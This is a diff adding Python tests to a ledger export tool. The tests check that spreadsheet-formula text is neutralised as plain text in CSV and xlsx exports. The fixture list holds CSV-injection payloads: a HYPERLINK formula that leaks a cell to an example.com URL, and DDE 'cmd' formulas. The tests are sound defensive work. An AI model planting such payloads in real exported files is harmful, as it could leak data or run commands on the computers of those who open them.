@@ -134,3 +134,52 @@ def test_a_failed_export_leaves_the_old_file_alone(
 def test_a_missing_folder_is_a_user_error(tmp_path: Path) -> None:
     with pytest.raises(UserError, match="文件夹不存在"):
         export_ledger([row()], tmp_path / "没有的文件夹" / "台账.xlsx")
+
+
+# Text a spreadsheet would run as a formula (OWASP's CSV injection), as people type it.
+FORMULA_LIKE = [
+    '=HYPERLINK("http://example.com/?leak="&A1,"点此查看")',
+    "=cmd|' /C calc'!A0",
+    "+86 138 0000 0000",
+    "-5%,同比下降",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "'=已有撇号",
+]
+
+
+@pytest.mark.parametrize("text", FORMULA_LIKE)
+def test_csv_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path, text: str) -> None:
+    out = tmp_path / "台账.csv"
+    export_ledger([row(备注=text, 责任人=text)], out)
+
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        _, written = list(csv.reader(handle))
+    values = dict(zip(COLUMNS, written, strict=True))
+    assert values["备注"] == values["责任人"] == "'" + text
+    # Numbers and dates stay as they are: no apostrophe before them.
+    assert (values["总投资(万元)"], values["签约日期"]) == ("7.06", "2023-07-31")
+
+
+# (A carriage return inside an .xlsx cell reads back as a line feed: XML's own rule.)
+@pytest.mark.parametrize("text", [t for t in FORMULA_LIKE if not t.startswith("\r")])
+def test_xlsx_text_that_looks_like_a_formula_is_a_text_cell(tmp_path: Path, text: str) -> None:
+    out = tmp_path / "台账.xlsx"
+    export_ledger([row(备注=text)], out)
+
+    cells = dict(zip(COLUMNS, load_workbook(out).worksheets[0][2], strict=True))
+    remark = cells["备注"]
+    shown = "'" + text if text.startswith("'") else text  # the import takes one off
+    assert (remark.value, remark.data_type) == (shown, "s")
+    assert remark.quotePrefix  # shown as text, and kept text when the cell is edited
+    assert (cells["总投资(万元)"].data_type, cells["总投资(万元)"].value) == ("n", 7.06)
+    assert not cells["项目名称"].quotePrefix
+
+
+def test_a_text_the_xlsx_format_cannot_hold_is_refused_by_name(tmp_path: Path) -> None:
+    out = tmp_path / "台账.xlsx"
+    with pytest.raises(UserError, match="“备注”含有控制字符") as refused:
+        export_ledger([row(备注="电源\x00故障")], out)
+    assert "自动化设备及汽车零部件项目通讯模组、指纹模组项目" in refused.value.zh
+    assert list(tmp_path.iterdir()) == []
